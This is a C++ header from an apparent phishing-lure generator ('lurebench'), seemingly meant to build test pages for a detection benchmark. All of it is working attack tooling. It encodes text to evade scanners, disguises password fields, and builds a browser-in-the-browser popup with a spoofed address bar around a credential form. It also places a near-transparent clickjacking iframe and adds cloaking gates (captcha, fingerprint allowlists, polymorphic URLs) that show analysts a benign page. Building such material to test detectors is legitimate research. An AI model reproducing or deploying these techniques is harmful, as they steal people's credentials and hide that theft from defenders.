#pragma once

// Page transform passes. Each pass edits a parsed document in place and is
// deterministic; applying the same pass to the same tree yields the same
// tree. Composition order is fixed by the caller.

#include <cstdio>
#include <string>
#include <vector>

#include "lurebench/brand/objects.hpp"
#include "lurebench/brand/profile.hpp"
#include "lurebench/bundle/manifest.hpp"
#include "lurebench/core/entities.hpp"
#include "lurebench/core/lexicon.hpp"
#include "lurebench/dom/dom.hpp"
#include "lurebench/errors.hpp"
#include "lurebench/forge/render.hpp"

namespace lurebench {
namespace forge {

// Replaces visible characters with decimal character references. Visible
// rendering is unchanged; the raw source no longer contains the literals.
inline void encode_visible_text(Node& doc, const std::string& scope) {
  bool all = scope == "all_visible";
  if (!all && scope != "sensitive_labels")
    throw ParamError("encode scope must be all_visible or sensitive_labels, got '" + scope + "'");
  for (Node* t : visible_text_nodes(doc)) {
    std::string decoded = decode_entities(t->text);
    if (all || contains_sensitive_term(decoded))
      t->text = encode_ncr(decoded);
  }
  for (auto& slot : visible_attr_slots(doc)) {
    const std::string* raw = slot.node->attr_raw(slot.attr);
    if (!raw)
      continue;
    std::string decoded = decode_entities(*raw);
    if (all || contains_sensitive_term(decoded))
      slot.node->set_attr_raw(slot.attr, encode_ncr(decoded));
  }
}

namespace detail {

inline void strip_elements(Node& n, const std::string& tag) {
  auto& kids = n.children;
  for (std::size_t i = 0; i < kids.size();) {
    if (kids[i].kind == NodeKind::Element && kids[i].tag == tag) {
      kids.erase(kids.begin() + static_cast<std::ptrdiff_t>(i));
    } else {
      strip_elements(kids[i], tag);
      ++i;
    }
  }
}

inline std::string merge_style(const std::string& existing, const std::string& extra) {
  if (existing.empty())
    return extra;
  std::string out = existing;
  if (out.back() != ';')
    out += ";";
  out += " " + extra;
  return out;
}

inline std::string format_px(double v) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%g", v);
  return std::string(buf);
}

}  // namespace detail

// Structural evasion passes, applied in the canonical order below no matter
// how the request lists them. An empty set is the identity. Requires at
// least one form in the document.
inline void apply_dom_evasion(Node& doc, const std::vector<std::string>& passes,
                              const std::string& target_domain) {
  if (first_by_tag(doc, "form") == nullptr)
    throw NoFormError("dom_evasion passes require a document with at least one form");
  auto wants = [&](const char* name) {
    for (const auto& p : passes)
      if (p == name)
        return true;
    return false;
  };
  for (const auto& p : passes) {
    bool known = false;
    for (const auto& k : all_dom_evasion_passes())
      known = known || k == p;
    if (!known)
      throw ParamError("unknown dom_evasion pass '" + p + "'");
  }

  if (wants("input_type_rewrite")) {
    walk(doc, [](Node& n) {
      if (n.kind != NodeKind::Element || n.tag != "input")
        return;
      auto type = n.attr("type");
      if (!type || *type != "password")
        return;
      n.set_attr_raw("type", "text");
      auto style = n.attr("style");
      n.set_attr_raw("style",
                     detail::merge_style(style ? *style : "", "-webkit-text-security: disc;"));
    });
  }
  if (wants("script_strip"))
    detail::strip_elements(doc, "script");
  if (wants("target_domain_links")) {
    walk(doc, [&](Node& n) {
      if (n.kind != NodeKind::Element || n.tag != "a")
        return;
      auto href = n.attr("href");
      if (!href)
        return;
      std::string path = *href;
      if (!path.empty() && path[0] == '#')
        path = "/" + path.substr(1);
      else if (path.find("://") != std::string::npos)
        path = std::string(url_path(path));
      else if (path.empty() || path[0] != '/')
        path = "/" + path;
      n.set_attr_raw("href", "https://" + target_domain + path);
    });
  }
  if (wants("root_relative_resources")) {
    for (auto& slot : resource_refs(doc)) {
      const std::string& v = slot.value;
      if (v.empty() || v[0] == '/' || v.find("://") != std::string::npos)
        continue;
      slot.node->set_attr_raw(slot.attr, "/" + v);
    }
  }
}

// Browser-in-the-browser popup: a window-chrome replica whose address bar
// shows the imitated domain while the inner form posts to the local sink.
// Hidden at initial render; the page script reveals it on the SSO trigger.
inline Node build_bitb_popup(const BrandProfile& profile, const CredentialFormSpec& form,
                             const BitbSpec& spec) {
  std::string displayed = spec.displayed_url.empty()
                              ? "https://" + profile.target_domain + "/signin"
                              : spec.displayed_url;
  if (std::string(url_host(displayed)) != profile.target_domain)
    throw ValidationError("displayed_url",
                          "host must equal the profile target_domain, got '" + displayed + "'");

  std::vector<Node> bar_kids;
  if (spec.chrome_style == "macos") {
    bar_kids.push_back(dom::element(
        "span", {{"class", "traffic-lights"}},
        {dom::element("span", {{"class", "dot dot-close"}}, {}),
         dom::element("span", {{"class", "dot dot-min"}}, {}),
         dom::element("span", {{"class", "dot dot-max"}}, {})}));
  } else {
    bar_kids.push_back(dom::element(
        "span", {{"class", "window-buttons"}},
        {dom::element("span", {{"class", "wb wb-min"}}, {dom::text("_")}),
         dom::element("span", {{"class", "wb wb-max"}}, {dom::text("□")}),
         dom::element("span", {{"class", "wb wb-close"}}, {dom::text("x")})}));
  }
  bar_kids.push_back(dom::element("span", {{"class", "url-bar"}}, {dom::text(displayed)}));

  return dom::element(
      "div",
      {{"class", "browser-popup"},
       {"data-chrome", spec.chrome_style},
       {"style", "display: none;"}},
      {dom::element("div", {{"class", "popup-titlebar"}}, std::move(bar_kids)),
       dom::element("div", {{"class", "popup-body"}},
                    {dom::element("h2", {},
                                  {dom::text("Sign in to " + profile.display_name)}),
                     render::credential_form_node(form)})});
}

// Positions a near-transparent iframe over the decoy's call-to-action. The
// frame rectangle inflates the CTA rectangle, so coverage is total.
inline void embed_clickjack_overlay(Node& doc, const std::string& frame_src, double opacity) {
  if (!(opacity >= 0.0 && opacity <= 0.05))
    throw ParamError("overlay opacity must lie in [0, 0.05], got " + std::to_string(opacity));
  Node* cta = nullptr;
  walk(doc, [&](Node& n) {
    if (cta || n.kind != NodeKind::Element)
      return;
    if (n.tag != "button" && n.tag != "a")
      return;
    if (rect_of(n))
      cta = &n;
  });
  if (!cta)
    throw NoCtaError("decoy page has no positioned call-to-action to cover");
  Rect target = *rect_of(*cta);
  Rect frame{target.x - 10, target.y - 10, target.w + 20, target.h + 20};
  if (Rect::overlap_area(target, frame) / target.area() < 0.9)
    throw Error("overlay geometry failed to cover the call-to-action");

  std::string style = "position: absolute; left: " + detail::format_px(frame.x) + "px; top: " +
                      detail::format_px(frame.y) + "px; width: " + detail::format_px(frame.w) +
                      "px; height: " + detail::format_px(frame.h) + "px; opacity: " +
                      detail::format_px(opacity) + "; border: none;";
  Node iframe = dom::element(
      "iframe", {{"src", frame_src}, {"style", style}, {"title", "offer claim"}}, {});
  Node* body = first_by_tag(doc, "body");
  if (!body)
    throw NoCtaError("decoy page has no body");
  body->children.push_back(std::move(iframe));
}

struct GatePaths {
  std::string gate_page;        // served pre-token (captcha challenge page)
  std::string credential_page;  // gated content
  std::string benign_page;      // fingerprint fallback variant
};

// Rebuilds the route list of `base` so the credential content sits behind
// the class's serving gate. Non-gate exploit specs are a parameter error.
inline BehaviorManifest make_gate_manifest(const ExploitSpec& spec, BehaviorManifest base,
                                           const GatePaths& paths) {
  validate_exploit_spec(spec);
  std::vector<RouteRule> head;

  if (const auto* c = std::get_if<CaptchaSpec>(&spec)) {
    (void)c;
    const std::string key = "captcha_token";
    base.session_keys = {key};
    head.push_back(RouteRule{"/" + paths.gate_page, "GET", {}, ServeAction{paths.gate_page}});
    head.push_back(RouteRule{"/" + paths.credential_page,
                             "GET",
                             {Gate{"has_token", key, false}},
                             ServeAction{paths.credential_page}});
    head.push_back(
        RouteRule{"/" + paths.credential_page, "GET", {}, ServeAction{paths.gate_page}});
    head.push_back(RouteRule{"/challenge", "POST", {}, IssueTokenAction{key}});
  } else if (const auto* f = std::get_if<FingerprintSpec>(&spec)) {
    std::vector<Gate> gates;
    for (const auto& ua : f->ua_allow)
      gates.push_back(Gate{"ua_contains", ua, false});
    for (const auto& d : f->device_allow)
      gates.push_back(Gate{"device_is", d, false});
    for (const auto& c2 : f->allow_cidrs)
      gates.push_back(Gate{"ip_in_cidr", c2, false});
    for (const auto& c2 : f->deny_cidrs)
      gates.push_back(Gate{"ip_in_cidr", c2, true});
    head.push_back(RouteRule{"/" + paths.credential_page, "GET", gates,
                             ServeAction{paths.credential_page}});
    head.push_back(
        RouteRule{"/" + paths.credential_page, "GET", {}, ServeAction{paths.benign_page}});
  } else if (const auto* p = std::get_if<PolymorphicSpec>(&spec)) {
    RedirectAction redirect{"/" + paths.credential_page + "?t={token}"};
    redirect.token_length = p->token_length;
    head.push_back(RouteRule{"/" + paths.credential_page + "?t=*", "GET", {},
                             ServeAction{paths.credential_page}});
    head.push_back(RouteRule{"/" + paths.credential_page, "GET", {}, redirect});
  } else {
    throw ParamError("make_gate_manifest requires a captcha, fingerprint, or polymorphic spec");
  }

  // Drop base serve rules the gate now owns, keep assets and capture.
  std::vector<RouteRule> tail;
  for (auto& r : base.routes) {
    bool owned = false;
    for (const auto& h : head)
      owned = owned || (std::get_if<ServeAction>(&r.action) && r.pattern == h.pattern &&
                        r.method == h.method);
    if (!owned)
      tail.push_back(std::move(r));
  }
  base.routes = std::move(head);
  for (auto& r : tail)
    base.routes.push_back(std::move(r));
  validate_manifest(base);
  return base;
}

}  // namespace forge
}  // namespace lurebench
